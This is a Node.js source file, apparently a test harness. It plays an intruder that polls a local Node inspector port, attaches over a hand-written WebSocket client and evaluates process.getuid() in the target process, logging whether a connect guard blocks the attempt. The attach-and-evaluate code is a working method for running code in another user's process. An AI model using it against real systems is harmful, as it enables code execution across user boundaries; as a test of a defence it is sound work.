// SPDX-License-Identifier: Apache-2.0
// The intruder the connect guard keeps out: a local process (run as another user) that polls a Node
// inspector port every POLL_MS and, whenever a connect() succeeds, tries to attach and
// evaluate process.getuid() inside the target, as the reporter did. It rotates
// over the destinations that reach a listener on 127.0.0.1 (127.0.0.1, 0.0.0.0,
// ::ffff:127.0.0.1, localhost). One line per outcome is appended to LOG:
//   refused CODE HOST   connect() failed (EPERM: the guard; ECONNREFUSED: nobody listens)
//   connected HOST      connect() succeeded
//   attached UID        a session evaluated process.getuid() in the target
// Node 18+ has no WebSocket client in every version: a minimal RFC 6455 one is below.
const net = require('net');
const fs = require('fs');
const crypto = require('crypto');

const PORT = Number(process.env.PORT || 9229);
const POLL_MS = Number(process.env.POLL_MS || 20);
const HOLD_MS = Number(process.env.HOLD_MS || 0);   // keep a session this long, as an attacker would
const LOG = process.env.LOG;
const HOSTS = (process.env.HOSTS || '127.0.0.1,0.0.0.0,::ffff:127.0.0.1,localhost').split(',');
let turn = 0, busy = false;

const log = (line) => fs.appendFileSync(LOG, line + '\n');

function frame(text) {
  const payload = Buffer.from(text);
  const mask = crypto.randomBytes(4);
  const head = payload.length < 126 ? Buffer.from([0x81, 0x80 | payload.length])
    : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
  const body = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]));
  return Buffer.concat([head, mask, body]);
}

// Reads server frames (unmasked) out of buf; calls fn(text) per text frame.
function frames(buf, fn) {
  while (buf.length >= 2) {
    let len = buf[1] & 0x7f, off = 2;
    if (len === 126) { if (buf.length < 4) break; len = buf.readUInt16BE(2); off = 4; }
    else if (len === 127) { if (buf.length < 10) break; len = Number(buf.readBigUInt64BE(2)); off = 10; }
    if (buf.length < off + len) break;
    if ((buf[0] & 0x0f) === 1) fn(buf.subarray(off, off + len).toString());
    buf = buf.subarray(off + len);
  }
  return buf;
}

function evaluate(host, wsPath, done) {
  const s = net.connect({ host, port: PORT });
  let buf = Buffer.alloc(0), upgraded = false;
  s.on('error', () => done());
  s.on('close', () => done());
  s.on('connect', () => s.write(`GET ${wsPath} HTTP/1.1\r\nHost: 127.0.0.1:${PORT}\r\nUpgrade: websocket\r\n` +
    `Connection: Upgrade\r\nSec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\n` +
    'Sec-WebSocket-Version: 13\r\n\r\n'));
  s.on('data', (d) => {
    buf = Buffer.concat([buf, d]);
    if (!upgraded) {
      const end = buf.indexOf('\r\n\r\n');
      if (end < 0) return;
      upgraded = true;
      buf = buf.subarray(end + 4);
      s.write(frame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: 'process.getuid()' } })));
    }
    buf = frames(buf, (text) => {
      const m = JSON.parse(text);
      if (m.id === 1 && m.result && m.result.result) {
        log(`attached ${m.result.result.value}`);
        setTimeout(() => s.destroy(), HOLD_MS);
      }
    });
  });
}

function attempt() {
  if (busy) return;
  busy = true;
  const host = HOSTS[turn++ % HOSTS.length];
  const s = net.connect({ host, port: PORT });
  let body = '';
  const finish = () => { busy = false; };
  s.on('error', (e) => { log(`refused ${e.code} ${host}`); finish(); });
  s.on('connect', () => { log(`connected ${host}`); s.write(`GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:${PORT}\r\n\r\n`); });
  s.on('data', (d) => {
    body += d;
    const m = /"webSocketDebuggerUrl"\s*:\s*"ws:\/\/[^/"]+(\/[^"]+)"/.exec(body);
    if (m) { s.destroy(); evaluate(host, m[1], finish); }
  });
  s.on('close', () => { if (busy && !/webSocketDebuggerUrl/.test(body)) finish(); });
}

setInterval(attempt, POLL_MS);
